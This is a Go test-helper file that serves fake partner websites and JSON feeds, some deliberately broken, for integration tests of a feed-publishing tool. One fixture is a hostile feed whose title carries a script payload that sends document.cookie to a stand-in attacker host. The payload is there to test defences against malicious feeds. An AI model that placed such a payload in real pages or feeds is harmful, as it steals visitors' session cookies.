package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/balikpapan/humas/publish/feed"
	"github.com/balikpapan/humas/publish/feed/feedtest"
)

const sitesKey = "sites"

// sites are the websites a scenario serves on 127.0.0.1: another office's built
// site, a partner's hand-written feed, a partner whose feed is broken.
type sites struct {
	mu     sync.Mutex
	served map[string][]int // site name: status of every answer
}

// cmdSites serves websites for scenarios with two offices (humas repost):
//
//	sites serve NAME DIR FILE…       serve DIR as a static site with ETag and Last-Modified
//	                                 (304s to conditional requests, JSON as application/json);
//	                                 replace {{NAME}} in each FILE with its URL, no slash at the
//	                                 end, and set $NAME_URL
//	sites broken NAME MODE FILE…     a feed that is down (503), malformed (not JSON), oversized
//	                                 (5 MB) or script (a humas feed carrying a script element)
//	sites served NAME STATUS N       NAME answered exactly N times with STATUS
//	sites valid-feed FILE            FILE is valid JSON Feed 1.1, and reads as a humas feed
//	sites feed-posts FILE ACCOUNT    every post ACCOUNT holds on the fakes is in FILE's _humas
//	                                 posts, with its id
func cmdSites(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) < 2 {
		ts.Fatalf("usage: sites serve|broken|served|valid-feed|feed-posts …")
	}
	s := ts.Value(sitesKey).(*sites)
	switch args[0] {
	case "serve":
		if len(args) < 3 {
			ts.Fatalf("usage: sites serve NAME DIR FILE…")
		}
		dir := ts.MkAbs(args[2])
		s.start(ts, args[1], args[3:], func(w http.ResponseWriter, r *http.Request) int {
			return serveStatic(w, r, dir)
		})
	case "broken":
		if len(args) < 3 {
			ts.Fatalf("usage: sites broken NAME MODE FILE…")
		}
		body, ok := brokenFeeds[args[2]]
		if !ok {
			ts.Fatalf("sites broken: unknown mode %q", args[2])
		}
		var url string
		s.start(ts, args[1], args[3:], func(w http.ResponseWriter, r *http.Request) int {
			if body == nil {
				http.Error(w, "service unavailable", http.StatusServiceUnavailable)
				return http.StatusServiceUnavailable
			}
			w.Header().Set("Content-Type", feed.MediaType)
			w.Write([]byte(strings.ReplaceAll(body(), "{{site}}", url)))
			return http.StatusOK
		})
		url = ts.Getenv(strings.ToUpper(args[1]) + "_URL")
	case "served":
		if len(args) != 4 {
			ts.Fatalf("usage: sites served NAME STATUS N")
		}
		s.mu.Lock()
		got := 0
		for _, st := range s.served[args[1]] {
			if fmt.Sprint(st) == args[2] {
				got++
			}
		}
		s.mu.Unlock()
		if (got == atoi(ts, args[3])) == neg {
			ts.Fatalf("%s answered %s %d times, want %s%s", args[1], args[2], got, notIf(neg), args[3])
		}
	case "valid-feed":
		data := []byte(ts.ReadFile(args[1]))
		p := feedtest.Validate(data)
		_, err := feed.Parse(data)
		if (len(p) == 0 && err == nil) == neg {
			ts.Fatalf("%s: JSON Feed 1.1 problems %q, humas feed error %v", args[1], p, err)
		}
	case "feed-posts":
		if len(args) != 3 {
			ts.Fatalf("usage: sites feed-posts FILE ACCOUNT")
		}
		f, err := feed.Parse([]byte(ts.ReadFile(args[1])))
		ts.Check(err)
		var ids []string
		for _, it := range f.Items {
			for _, p := range it.Humas.Posts {
				ids = append(ids, p.Platform+":"+p.ID)
			}
		}
		h := ts.Value(fakesKey).(*fakesHolder)
		if h.f == nil {
			ts.Fatalf("sites feed-posts: run 'fakes start' first")
		}
		a := account(ts, args[2])
		var want []string
		for _, t := range h.f.x.Posts(a.username) {
			want = append(want, "x:"+t.ID)
		}
		for _, p := range h.f.fb.Posts(a.page) {
			want = append(want, "facebook:"+p.ID)
		}
		if len(want) == 0 {
			ts.Fatalf("%s holds no posts on the fakes", args[2])
		}
		for _, w := range want {
			if !slices.Contains(ids, w) {
				ts.Fatalf("%s: post %s of %s is not in the feed (it lists %v)", args[1], w, args[2], ids)
			}
		}
	default:
		ts.Fatalf("sites: unknown subcommand %q", args[0])
	}
}

// start serves handle as site name, puts its URL into files and $NAME_URL.
func (s *sites) start(ts *testscript.TestScript, name string, files []string, handle func(http.ResponseWriter, *http.Request) int) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		st := handle(w, r)
		s.mu.Lock()
		s.served[name] = append(s.served[name], st)
		s.mu.Unlock()
	}))
	ts.Defer(srv.Close)
	ts.Setenv(strings.ToUpper(name)+"_URL", srv.URL)
	fillIn(ts, files, "{{"+name+"}}", srv.URL)
}

// serveStatic answers as a static host does (GitHub Pages): the file's bytes with
// an ETag of its content and its Last-Modified, 304 to a request whose validators
// match, index.html for a folder. It returns the status sent.
func serveStatic(w http.ResponseWriter, r *http.Request, dir string) int {
	name := path.Clean("/" + r.URL.Path)
	file := filepath.Join(dir, filepath.FromSlash(name))
	if strings.HasSuffix(r.URL.Path, "/") {
		file = filepath.Join(file, "index.html")
	}
	data, err := os.ReadFile(file)
	st, serr := os.Stat(file)
	if err != nil || serr != nil {
		http.NotFound(w, r)
		return http.StatusNotFound
	}
	sum := sha256.Sum256(data)
	etag := `"` + hex.EncodeToString(sum[:8]) + `"`
	w.Header().Set("ETag", etag)
	if strings.HasSuffix(file, ".json") {
		w.Header().Set("Content-Type", "application/json")
	}
	rec := &statusWriter{ResponseWriter: w, status: http.StatusOK}
	http.ServeContent(rec, r, filepath.Base(file), st.ModTime(), strings.NewReader(string(data)))
	return rec.status
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (s *statusWriter) WriteHeader(code int) {
	s.status = code
	s.ResponseWriter.WriteHeader(code)
}

// brokenFeeds are the bodies of broken partner feeds; nil is a feed that is down.
var brokenFeeds = map[string]func() string{
	"down":      nil,
	"malformed": func() string { return `{"version": "https://jsonfeed.org/version/1.1", "title": "Rusak", "items": [` },
	"oversized": func() string {
		return `{"version": "https://jsonfeed.org/version/1.1", "title": "` + strings.Repeat("besar ", 900_000) + `", "items": []}`
	},
	"script": func() string {
		return `{"version": "https://jsonfeed.org/version/1.1", "title": "Bawaslu", "items": [{"id": "{{site}}/a/", "url": "{{site}}/a/",
  "title": "Pengumuman <script>fetch('https://evil.example/?'+document.cookie)</script>", "content_text": "x",
  "date_published": "2099-01-01T10:00:00+08:00",
  "_humas": {"version": 1, "issuer": "bawaslu", "issuer_name": "Bawaslu", "classification": "berkala", "kind": "siaran-pers", "posts": []}}]}`
	},
}
